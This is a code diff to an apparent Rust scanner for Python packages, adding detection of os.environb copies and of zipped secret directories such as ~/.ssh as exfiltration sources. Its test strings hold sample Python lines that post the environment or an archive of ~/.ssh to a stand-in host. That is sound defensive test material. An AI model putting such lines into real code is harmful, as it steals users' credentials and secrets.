@@ -324,9 +324,18 @@ pub fn classify_call(
     }
     if matches!(
         qualname,
-        "os.environ.copy" | "dict" | "os.environ.items" | "os.environ.keys" | "os.environ.values"
+        "os.environ.copy"
+            | "dict"
+            | "os.environ.items"
+            | "os.environ.keys"
+            | "os.environ.values"
+            | "os.environb.copy"
+            | "os.environb.items"
+            | "os.environb.values"
     ) && (qualname.starts_with("os.environ")
-        || first.and_then(|a| checker.qualname(a)).as_deref() == Some("os.environ"))
+        || first
+            .and_then(|a| checker.qualname(a))
+            .is_some_and(|q| q == "os.environ" || q == "os.environb"))
     {
         return Some(("the whole environment".to_owned(), SourceKind::Environment));
     }
@@ -394,6 +403,17 @@ pub fn classify_call(
         let label = secret_path_label(&path)?;
         return Some((
             format!("{label} ({})", crate::text::shorten(&path, 60)),
+            SourceKind::Secret,
+        ));
+    }
+    // `shutil.make_archive(base, 'zip', root_dir='~/.ssh')`: the archive holds the store.
+    if qualname == "shutil.make_archive"
+        && let Some(root) = super::keyword(call, "root_dir").or_else(|| call.arguments.args.get(2))
+        && let Some(path) = super::partial_text(checker, root)
+        && let Some(label) = secret_path_label(&path)
+    {
+        return Some((
+            format!("{label} ({}), archived", crate::text::shorten(&path, 60)),
             SourceKind::Secret,
         ));
     }
@@ -783,6 +803,20 @@ mod tests {
                 "{read}"
             );
         }
+        for sent in [
+            "b'&'.join(k + b'=' + v for k, v in os.environb.items())",
+            "open(shutil.make_archive('/tmp/k', 'zip', root_dir=os.path.expanduser('~/.ssh')), 'rb')",
+        ] {
+            let code = format!(
+                "import os, shutil, requests\nrequests.post('https://x.invalid/t', data={sent})\n"
+            );
+            assert!(
+                max_severity("p-1/pkg/__init__.py", &code, "WH200") >= 0.7,
+                "{sent}"
+            );
+        }
+        let docs = "import shutil, requests\nrequests.post('https://x.invalid/t', data=open(shutil.make_archive('/tmp/d', 'zip', root_dir='docs/_build'), 'rb'))\n";
+        assert!(max_severity("p-1/pkg/__init__.py", docs, "WH200") < 0.5);
         let status = "import subprocess, requests\nrequests.post('https://x.invalid/t', data=subprocess.check_output(['gh', 'auth', 'status']))\n";
         assert!(max_severity("p-1/pkg/__init__.py", status, "WH200") < 0.85);
     }
